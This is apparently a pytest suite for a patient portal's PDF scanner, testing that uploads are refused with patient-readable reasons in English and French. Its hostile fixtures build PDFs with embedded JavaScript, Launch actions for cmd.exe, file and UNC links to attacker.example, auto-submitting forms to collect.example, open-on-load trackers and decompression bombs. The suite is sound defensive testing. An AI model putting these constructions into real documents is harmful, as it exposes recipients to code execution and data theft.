"""PDFs judged by their structure (issue 13; portal/documents/pdfscan.py): each file goes
up as a patient sends it, through the upload page with its CSRF token, the worker's check
runs, and the patient's list says what became of it, in the patient's language. Hostile
files are refused with the reason a patient understands; letters with plain links, scans
whose image bytes happen to read like PDF keys, and letters that name those keys in their
text are kept."""
from __future__ import annotations

import io

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from sqlalchemy import select

from portal.documents import pdfscan
from portal.extensions import db
from portal.models import Document
from tests.documents import files
from tests.documents import pdf_files as made
from tests.documents.conftest import stored_keys, upload
from tests.markup import parse

act = made.action

ENGLISH = {
    pdfscan.SCRIPTS: "contains scripts (small programs that run in the PDF reader)",
    pdfscan.LAUNCH: "can start programs or open files on the computer that opens it",
    pdfscan.SENDS_DATA: "contains a form that sends or fetches information by itself",
    pdfscan.WEB_ON_OPEN: "opens a web page or another file by itself as soon as it is opened",
    pdfscan.MEDIA: "contains video, sound or other interactive content",
    pdfscan.ATTACHMENTS: "has other files attached inside it",
    pdfscan.LOCKED: "is locked by the program that made it",
    pdfscan.PASSWORD: "is protected by a password",
    pdfscan.UNCHECKED: "could not be checked for safety",
}
FRENCH = {
    pdfscan.SCRIPTS: "contient des scripts (de petits programmes",
    pdfscan.LAUNCH: "peut lancer des programmes ou ouvrir des fichiers",
    pdfscan.SENDS_DATA: "contient un formulaire qui envoie ou récupère des renseignements",
    pdfscan.WEB_ON_OPEN: "ouvre de lui-même une page Web ou un autre fichier",
    pdfscan.MEDIA: "contient de la vidéo, du son ou d'autre contenu interactif",
    pdfscan.ATTACHMENTS: "contient d'autres fichiers joints",
    pdfscan.LOCKED: "est verrouillé par le programme qui l'a créé",
    pdfscan.PASSWORD: "est protégé par un mot de passe",
    pdfscan.UNCHECKED: "Impossible de vérifier la sécurité de",
}


def _js(code: str = "app.alert(1)") -> Dictionary:
    return act("JavaScript", JS=String(code))


def _tracker() -> Dictionary:
    return act("URI", URI=String("https://tracker.example/opened"))


HOSTILE = [
    # scripts, wherever they hang
    pytest.param(lambda: made.letter(made.link(_js())), pdfscan.SCRIPTS,
                 id="javascript-in-a-link-annotation"),
    pytest.param(lambda: made.letter(made.field(
        FT=Name.Tx, T=String("name"), AA=Dictionary(K=_js("event.rc = true")))),
        pdfscan.SCRIPTS, id="javascript-in-a-form-fields-additional-actions"),
    pytest.param(lambda: made.letter(made.uri_link("javascript:app.alert(1)")),
                 pdfscan.SCRIPTS, id="javascript-address-in-a-link"),
    pytest.param(made.javascript_added_by_an_update, pdfscan.SCRIPTS,
                 id="javascript-added-by-an-incremental-update"),
    pytest.param(made.javascript_in_object_stream_with_long_dictionary, pdfscan.SCRIPTS,
                 id="javascript-in-an-object-stream-with-a-dictionary-over-4-kib"),
    pytest.param(lambda: made.letter(made.on_open(_js("/* " + "x" * 5000 + " */")),
                                     object_stream_mode=pikepdf.ObjectStreamMode.generate),
                 pdfscan.SCRIPTS, id="javascript-over-4-kib-in-an-object-stream"),
    # programs and files on the computer
    pytest.param(lambda: made.letter(made.link(act("Launch", F=String("cmd.exe")))),
                 pdfscan.LAUNCH, id="launch-in-a-link"),
    pytest.param(lambda: made.letter(made.link(act("Launch", F=String("cmd.exe"), K=0,
                                                   P=Dictionary(Type=Name.StructElem)))),
                 pdfscan.LAUNCH, id="launch-with-the-keys-of-a-structure-element"),
    pytest.param(lambda: made.letter(made.uri_link("file:///C:/Windows/System32/calc.exe")),
                 pdfscan.LAUNCH, id="file-address-in-a-link"),
    pytest.param(lambda: made.letter(made.uri_link("\\\\attacker.example\\share\\x")),
                 pdfscan.LAUNCH, id="network-share-in-a-link"),
    # forms that send or fetch data
    pytest.param(lambda: made.letter(made.field(
        FT=Name.Btn, Ff=65536, T=String("send"),
        A=act("SubmitForm", F=Dictionary(FS=Name.URL, F=String("https://collect.example/")),
              Flags=4))),
        pdfscan.SENDS_DATA, id="submit-form-button"),
    pytest.param(lambda: made.letter(made.field(
        FT=Name.Btn, Ff=65536, T=String("load"),
        A=act("ImportData", F=String("answers.fdf")))),
        pdfscan.SENDS_DATA, id="import-data-button"),
    # a web address (or another file) opened with no click
    pytest.param(lambda: made.letter(made.on_open(_tracker())), pdfscan.WEB_ON_OPEN,
                 id="web-address-on-open"),
    pytest.param(lambda: made.letter(made.on_page_open(_tracker())), pdfscan.WEB_ON_OPEN,
                 id="web-address-when-the-page-opens"),
    pytest.param(lambda: made.letter(made.on_open(act(
        "GoToR", F=String("\\\\attacker.example\\share\\x.pdf"), D=Array([0, Name.Fit])))),
        pdfscan.WEB_ON_OPEN, id="another-file-on-open"),
    pytest.param(lambda: made.letter(made.next_cycle(_tracker())), pdfscan.WEB_ON_OPEN,
                 id="web-address-in-a-cyclic-next-chain-on-open"),
    # players and attachments
    pytest.param(lambda: made.letter(made.rich_media), pdfscan.MEDIA, id="rich-media"),
    pytest.param(lambda: made.letter(made.screen_with_rendition), pdfscan.MEDIA,
                 id="screen-annotation-with-a-rendition"),
    pytest.param(lambda: made.letter(made.attached_file), pdfscan.ATTACHMENTS,
                 id="attached-file"),
    pytest.param(lambda: made.letter(made.file_attachment_annotation), pdfscan.ATTACHMENTS,
                 id="file-attachment-annotation"),
    # locked, or beyond what can be checked
    pytest.param(made.owner_password_only, pdfscan.LOCKED, id="encrypted-without-a-password"),
    pytest.param(made.user_password, pdfscan.PASSWORD, id="password-to-open"),
    pytest.param(lambda: made.letter(made.nested(pdfscan.MAX_DEPTH + 1)), pdfscan.UNCHECKED,
                 id="nested-deeper-than-the-cap"),
    pytest.param(made.object_stream_inflation_bomb, pdfscan.UNCHECKED,
                 id="object-stream-that-inflates-to-200-mb"),
    pytest.param(made.huge_array, pdfscan.UNCHECKED,
                 id="an-array-qpdf-needs-more-memory-for-than-allowed"),
    pytest.param(files.pdf_with_javascript_in_object_stream, pdfscan.UNCHECKED,
                 id="an-open-action-that-is-a-stream"),
]

INNOCENT = [
    pytest.param(lambda: made.letter(made.uri_link("https://clinic.example/letter")),
                 id="web-link-clicked-by-the-reader"),
    pytest.param(lambda: made.letter(made.uri_link("mailto:dr.singh@clinic.example")),
                 id="e-mail-link"),
    pytest.param(made.scan_with_keywords_in_its_jpeg, id="scan-whose-jpeg-reads-like-pdf-keys"),
    pytest.param(made.letter_that_mentions_javascript, id="letter-whose-text-names-pdf-keys"),
    pytest.param(lambda: made.letter(made.next_cycle(None)), id="cyclic-next-chain-of-gotos"),
    pytest.param(lambda: made.letter(made.nested(pdfscan.MAX_DEPTH)), id="nested-to-the-cap"),
]


def _only_document() -> Document:
    db.session.expire_all()
    doc, = db.session.scalars(select(Document))
    return doc


def _line(client, doc: Document) -> str:
    page = parse(client.get("/me/documents/").get_data(as_text=True))
    return page.by_id(f"doc-{doc.public_id}").text


@pytest.mark.parametrize("make,reason", HOSTILE)
def test_hostile_pdfs_are_refused_with_their_reason(patient_client, make, reason):
    response = upload(patient_client, (make(), "clearance.pdf"))
    assert response.status_code == 303, response.get_data(as_text=True)
    doc = _only_document()
    assert (doc.status, doc.refusal_code) == ("refused", reason)
    assert stored_keys() == set()
    line = _line(patient_client, doc)
    assert "Refused" in line and f"clearance.pdf {ENGLISH[reason]}" in line


@pytest.mark.parametrize("make", INNOCENT)
def test_innocent_pdfs_are_kept_as_they_came(patient_client, make):
    data = make()
    response = upload(patient_client, (data, "letter.pdf"))
    assert response.status_code == 303, response.get_data(as_text=True)
    doc = _only_document()
    assert doc.status == "pending", (doc.refusal_code, doc.refusal_params)
    download = patient_client.get(f"/documents/{doc.public_id}/download")
    assert download.status_code == 200 and download.get_data() == data
    assert "Waiting for review" in _line(patient_client, doc)


@pytest.mark.parametrize("reason,make", [
    (pdfscan.SCRIPTS, lambda: made.letter(made.link(_js()))),
    (pdfscan.LAUNCH, lambda: made.letter(made.link(act("Launch", F=String("cmd.exe"))))),
    (pdfscan.SENDS_DATA, lambda: made.letter(made.field(
        FT=Name.Btn, T=String("load"), A=act("ImportData", F=String("a.fdf"))))),
    (pdfscan.WEB_ON_OPEN, lambda: made.letter(made.on_open(_tracker()))),
    (pdfscan.MEDIA, lambda: made.letter(made.screen_with_rendition)),
    (pdfscan.ATTACHMENTS, lambda: made.letter(made.attached_file)),
    (pdfscan.LOCKED, made.owner_password_only),
    (pdfscan.PASSWORD, made.user_password),
    (pdfscan.UNCHECKED, lambda: made.letter(made.nested(pdfscan.MAX_DEPTH + 1))),
], ids=lambda value: value if isinstance(value, str) else None)
def test_each_reason_is_told_in_french(patient, patient_client, reason, make):
    patient.locale = "fr_CA"
    db.session.commit()
    assert upload(patient_client, (make(), "lettre.pdf")).status_code == 303
    doc = _only_document()
    assert doc.refusal_code == reason
    line = _line(patient_client, doc)
    assert "lettre.pdf" in line and FRENCH[reason] in line, line
    assert ENGLISH[reason] not in line


def _letter_with_objects(total: int) -> bytes:
    """The letter with dictionaries added until qpdf finds ``total`` objects in it."""
    base = len(pikepdf.open(io.BytesIO(made.letter())).objects)
    data = made.letter(made.many_objects(total - base))
    assert len(pikepdf.open(io.BytesIO(data)).objects) == total
    return data


def test_the_object_cap_keeps_a_file_at_it_and_refuses_one_more(patient_client):
    at_cap = _letter_with_objects(pdfscan.MAX_OBJECTS)
    over = _letter_with_objects(pdfscan.MAX_OBJECTS + 1)
    assert upload(patient_client, (at_cap, "at-cap.pdf")).status_code == 303
    assert upload(patient_client, (over, "over.pdf")).status_code == 303
    db.session.expire_all()
    kept, refused = db.session.scalars(select(Document).order_by(Document.id))
    assert kept.status == "pending", kept.refusal_code
    assert (refused.status, refused.refusal_code) == ("refused", pdfscan.UNCHECKED)


def test_a_check_that_does_not_answer_refuses_the_file(patient_client, monkeypatch):
    """No answer from the checking process (stopped by its caps, crashed in qpdf, or, here,
    not done before the worker stops waiting) is a refusal, never a pass."""
    monkeypatch.setattr(pdfscan, "WAIT_SECONDS", 0)
    assert upload(patient_client, (files.pdf(), "letter.pdf")).status_code == 303
    doc = _only_document()
    assert (doc.status, doc.refusal_code) == ("refused", pdfscan.UNCHECKED)
